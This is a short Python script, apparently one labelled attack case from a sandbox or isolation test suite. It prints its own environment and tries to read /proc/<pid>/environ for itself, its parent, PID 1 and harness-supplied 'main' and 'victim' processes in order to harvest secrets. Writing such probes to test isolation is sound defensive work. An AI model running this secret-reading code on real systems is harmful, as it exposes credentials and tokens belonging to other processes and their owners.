# Attack: looks for secrets in the environment of its own process and of its parents.
# Kind: reading

import os

print(dict(os.environ))
for pid in ("self", os.getppid(), 1, HOST["main"], HOST["victim"]):
    try:
        print(open(f"/proc/{pid}/environ", "rb").read())
    except OSError as error:
        print(error)
